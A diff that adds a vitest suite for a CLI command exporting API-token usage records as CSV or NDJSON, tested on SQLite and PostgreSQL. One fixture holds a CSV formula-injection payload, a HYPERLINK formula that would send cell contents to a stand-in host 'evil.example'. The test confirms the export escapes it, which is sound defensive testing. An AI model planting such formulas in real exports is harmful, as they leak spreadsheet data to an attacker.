@@ -1,0 +1,131 @@
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Database, NewToken, Use } from '@tokenhouse/core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { at, aUse, NOW, storeToken } from '../../../../test/support/samples.ts';
+import { type CommandHouse, openCommandHouse } from './command-house.ts';
+import { BIN } from './run-command.ts';
+
+const HEADER = 'id,at,tokenId,tokenName,userId,outcome,endpoint,ipAddress,userAgent,client';
+
+describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s', (name) => {
+  let house: CommandHouse;
+  let database: Database;
+  let token: NewToken;
+  let busy: NewToken;
+  let folder: string;
+  const formula = '=HYPERLINK("http://evil.example/"&A1,"x")';
+  beforeAll(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'tokenhouse-export-'));
+    house = await openCommandHouse(name);
+    database = await house.openDatabase();
+    await database.maintain(NOW);
+    token = await storeToken(database.tokens, { name: 'CI, nightly', userId: 'ada' });
+    busy = await storeToken(database.tokens, { userId: 'grace' });
+    const uses: Use[] = [
+      aUse(token.id, { at: at(1), userAgent: formula, client: null }),
+      aUse(token.id, { at: at(2), outcome: 'forbidden', ipAddress: '2001:db8::7', userAgent: 'two\nlines' }),
+    ];
+    for (const use of uses) await database.usage.record(use);
+    await Promise.all(
+      Array.from({ length: 20_000 }, (_, ms) => database.usage.record(aUse(busy.id, { at: at(ms) }))),
+    );
+  });
+  afterAll(async () => {
+    await database.close();
+    await house.close();
+    await rm(folder, { recursive: true, force: true });
+  });
+
+  const exported = (...args: string[]) => house.run(['usage', 'export', ...args]);
+
+  test('--format csv: RFC 4180 with times in RFC 3339, and no cell that a spreadsheet would calculate', async () => {
+    const { code, stdout, stderr } = await exported('--token', token.id.toUpperCase(), '--format', 'csv');
+    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
+    const start = `${token.id},"CI, nightly",ada`;
+    const endpoint = 'POST /mcp tools/call whoami';
+    expect(stdout.replace(/^\d+,/gm, 'ID,')).toBe(
+      [
+        HEADER,
+        `ID,${at(1).toISOString()},${start},accepted,${endpoint},203.0.113.7,"'${formula.replaceAll('"', '""')}",`,
+        `ID,${at(2).toISOString()},${start},forbidden,${endpoint},2001:db8::7,"two\nlines",claude-code 2.1.330`,
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  test('--format ndjson --output: every use once, in a file of the owner’s alone; progress on stderr', async () => {
+    const output = join(folder, 'uses.ndjson');
+    const { code, stdout, stderr } = await exported('--format', 'ndjson', '--output', output, '--progress');
+    expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
+    expect(stderr).toMatch(/^20002 rows, \d+ rows\/s\n$/m);
+    expect((await stat(output)).mode & 0o777).toBe(0o600);
+    const uses = (await readFile(output, 'utf8'))
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    expect(uses).toHaveLength(20_002);
+    expect(new Set(uses.map(({ id }) => id)).size).toBe(20_002);
+    const { uses: listed } =
+      (await database.usage.listUses('ada', token.id, { limit: 9, cursor: undefined })) ?? {};
+    expect(uses.filter(({ tokenId }) => tokenId === token.id).reverse()).toEqual(
+      listed?.map((use) => ({
+        ...use,
+        at: use.at.toISOString(),
+        tokenId: token.id,
+        tokenName: 'CI, nightly',
+        userId: 'ada',
+      })),
+    );
+  });
+
+  test('--since, --until and --user narrow; a person or a token that is unknown has none', async () => {
+    const count = async (...args: string[]) =>
+      (await exported('--format', 'ndjson', ...args)).stdout.split('\n').length - 1;
+    const [since, until] = [at(10).toISOString(), at(15).toISOString()];
+    expect(
+      await Promise.all([
+        count('--since', since, '--until', until),
+        count('--user', 'ada'),
+        count('--user', 'ada', '--token', busy.id),
+        count('--token', 'nonsense'),
+      ]),
+    ).toEqual([5, 2, 0, 0]);
+  });
+
+  test('a reader that has enough, as head does, ends it quietly', async () => {
+    const child = spawn(process.execPath, [BIN, 'usage', 'export', '--format', 'csv'], {
+      env: { PATH: process.env['PATH'], ...house.env },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    let stderr = '';
+    child.stderr.on('data', (chunk) => {
+      stderr += chunk;
+    });
+    child.stdout.once('data', () => child.stdout.destroy());
+    expect([await once(child, 'exit'), stderr]).toEqual([[0, null], '']);
+  });
+
+  test('what cannot be done is told in one line', async () => {
+    const [time, format, folderless] = await Promise.all([
+      exported('--since', 'yesterday', '--format', 'csv'),
+      exported('--format', 'xml'),
+      exported('--format', 'csv', '--output', join(folder, 'none', 'uses.csv')),
+    ]);
+    expect(time).toMatchObject({
+      code: 2,
+      stderr: expect.stringMatching(/^tokenhouse: --since yesterday .*\n$/),
+    });
+    expect(format).toMatchObject({
+      code: 2,
+      stderr: expect.stringMatching(/^tokenhouse: .*csv, ndjson.*\n$/),
+    });
+    expect(folderless).toMatchObject({
+      code: 1,
+      stderr: expect.stringMatching(/^tokenhouse: Could not write .*\n$/),
+    });
+  });
+});
